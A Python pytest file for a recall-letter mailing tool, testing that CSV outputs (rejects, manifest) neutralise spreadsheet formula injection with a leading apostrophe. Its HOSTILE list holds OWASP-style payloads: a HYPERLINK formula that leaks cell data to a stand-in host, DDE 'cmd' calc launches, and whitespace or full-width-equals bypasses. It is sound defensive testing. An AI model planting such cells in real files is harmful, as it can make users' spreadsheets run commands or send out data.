"""Files the engine writes: CSV cells that a spreadsheet would run as formulas are neutralised (OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from letters.campaign import load_campaign
from letters.cli import cli
from letters.mail import mail
from letters.records import reconcile
from letters.write import FORMULA_STARTS, csv_bytes, safe_cell
from tests.conftest import AS_OF, options

HOSTILE = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # noqa: RUF001  a full-width equals sign, which some spreadsheets take for "="
]
"""Cells of the kind the attacker wrote into the records (OWASP's CSV Injection examples)."""


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_gets_a_leading_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value
    header, row = csv.reader(io.StringIO(csv_bytes(["a"], [[value]]).decode(), newline=""))
    assert header == ["a"] and row == ["'" + value]


@pytest.mark.parametrize("value", ["VIN 1HG...", "a = b", "12345-6789", 42, -1, 3.5, "", "O'Neil"])
def test_other_cells_are_written_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def hostile_records(records: tuple[Path, Path], folder: Path) -> tuple[Path, Path]:
    """The records with one hostile vehicle row and one hostile owner row per cell of ``HOSTILE``."""
    vehicles, owners = folder / "vehicles.csv", folder / "owners.csv"
    vrows = list(csv.reader(records[0].open(encoding="utf-8", newline="")))
    orows = list(csv.reader(records[1].open(encoding="utf-8", newline="")))
    model_year_plant = vrows[1][1:]
    for value in HOSTILE:
        vrows.append([value, *model_year_plant])  # a VIN the records stage rejects, quoted in the reason
        orows.append([value, value, "", "", value, "", "Springfield", "IL", "62701", "US", "", "", ""])
    for path, rows in ((vehicles, vrows), (owners, orows)):
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(rows)
    return vehicles, owners


def assert_safe(path: Path) -> list[list[str]]:
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{path}: {cell!r}"
    return rows


def test_check_rejects_are_safe_to_open(records: tuple[Path, Path], tmp_path: Path) -> None:
    vehicles, owners = hostile_records(records, tmp_path)
    target = tmp_path / "rejects.csv"
    result = CliRunner().invoke(cli, ["check", "23LJ01", "--vehicles", str(vehicles), "--owners", str(owners),
                                      "--as-of", AS_OF.isoformat(), "--rejects", str(target)])  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = assert_safe(target)
    vins = {row[3] for row in rows}
    assert {"'" + value.strip() for value in HOSTILE} <= vins  # each hostile VIN as read, behind the apostrophe


def test_mail_rejects_and_manifest_are_safe_and_the_records_unchanged(records: tuple[Path, Path],
                                                                      tmp_path: Path) -> None:  # fmt: skip
    vehicles, owners = hostile_records(records, tmp_path)
    (run,) = mail("23LJ01", options(tmp_path, (vehicles, owners))).runs
    rows = assert_safe(run.folder / "rejects.csv")
    assert {"'" + value.strip() for value in HOSTILE} <= {row[3] for row in rows}
    assert_safe(run.folder / "manifest.csv")
    # Only the file written changes: the reconciliation (and so the ledger and --json) keep the text as typed.
    rec = reconcile(load_campaign("23LJ01", as_of=AS_OF).campaign, vehicles, owners, AS_OF)
    assert {value.strip() for value in HOSTILE} <= {r.vin for r in rec.reported}
